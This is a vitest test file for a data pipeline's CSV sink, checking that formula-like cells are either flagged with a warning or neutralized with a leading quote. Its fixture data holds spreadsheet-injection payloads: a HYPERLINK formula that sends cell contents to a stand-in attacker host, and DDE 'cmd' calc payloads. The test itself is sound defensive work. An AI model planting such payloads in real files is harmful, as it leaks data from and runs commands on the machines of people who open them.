// Defect 10 of issue 12: a cell starting with =, +, - or @ was written unchanged to a CSV sink with no warning
// (spreadsheet formula injection). CSV sinks now have `formulas: keep | neutralize`; keep warns with the count.
import { describe, expect, it } from 'vitest';
import { chain, expectSucceeded, parseCsv, run } from '../helpers.js';

const data = [
  'id,cell',
  '1,"=HYPERLINK(""http://evil.example/?""&A1)"',
  '2,@SUM(1+1)',
  '3,+cmd|\' /C calc\'!A0',
  '4,-2+3+cmd|\' /C calc\'!A0',
  '5,-5',
  '6,plain',
  '7,"\tstarts with a tab"',
  '8,+44 20 7946 0958',
].join('\n');

const sink = (cfg: Record<string, unknown> = {}) =>
  chain([
    { id: 'src', kind: 'source.csv', config: { path: 'in.csv' } },
    { id: 'out', kind: 'sink.csv', config: { path: 'out.csv', ...cfg } },
  ]);

describe('CSV sink: formula-like cells', () => {
  it('keep (the default) writes them unchanged and warns with the count (the issue\'s case)', async () => {
    const r = await run(sink(), { files: { 'in.csv': `${data}\n` } });
    expectSucceeded(r);
    const rows = parseCsv(r.read('out.csv'));
    expect(rows[1]?.[1]).toBe('=HYPERLINK("http://evil.example/?"&A1)');
    const w = r.metric('out').warnings ?? [];
    // =, @, +cmd, -2+3…, tab, and a phone number starting with + (not a number either): 6; "-5" is a number.
    expect(w.join(' ')).toMatch(/^6 cell\(s\) start like a spreadsheet formula .*cell \(6\).*"formulas": "neutralize"/);
  });

  it('neutralize prefixes each of them with a quote and leaves numbers and plain text alone', async () => {
    const r = await run(sink({ formulas: 'neutralize' }), { files: { 'in.csv': `${data}\n` } });
    expectSucceeded(r);
    const cells = parseCsv(r.read('out.csv')).slice(1).map((x) => x[1]);
    expect(cells).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1)`,
      `'@SUM(1+1)`,
      `'+cmd|' /C calc'!A0`,
      `'-2+3+cmd|' /C calc'!A0`,
      '-5',
      'plain',
      `'\tstarts with a tab`,
      `'+44 20 7946 0958`,
    ]);
    expect(r.metric('out').warnings ?? []).toEqual([]);
  });

  it('through another door: a formula made by a derive expression, written in merge mode', async () => {
    const p = chain([
      { id: 'src', kind: 'source.csv', config: { path: 'in.csv' } },
      { id: 'd', kind: 'derive', config: { columns: [{ name: 'made', expression: "'=1+1'" }] } },
      { id: 'out', kind: 'sink.csv', config: { path: 'out.csv', mode: 'merge', key: ['id'], formulas: 'neutralize' } },
    ]);
    const r = await run(p, { files: { 'in.csv': 'id,cell\n1,ok\n' } });
    expectSucceeded(r);
    expect(parseCsv(r.read('out.csv'))[1]).toEqual(['1', 'ok', "'=1+1"]);
  });

  it('typed numeric columns are never touched (a negative number is not a formula)', async () => {
    const p = chain([
      { id: 'src', kind: 'source.csv', config: { path: 'in.csv', types: { n: 'DOUBLE' } } },
      { id: 'out', kind: 'sink.csv', config: { path: 'out.csv', formulas: 'neutralize' } },
    ]);
    const r = await run(p, { files: { 'in.csv': 'n,t\n-1.5,-x\n' } });
    expectSucceeded(r);
    expect(parseCsv(r.read('out.csv'))[1]).toEqual(['-1.5', "'-x"]);
  });
});
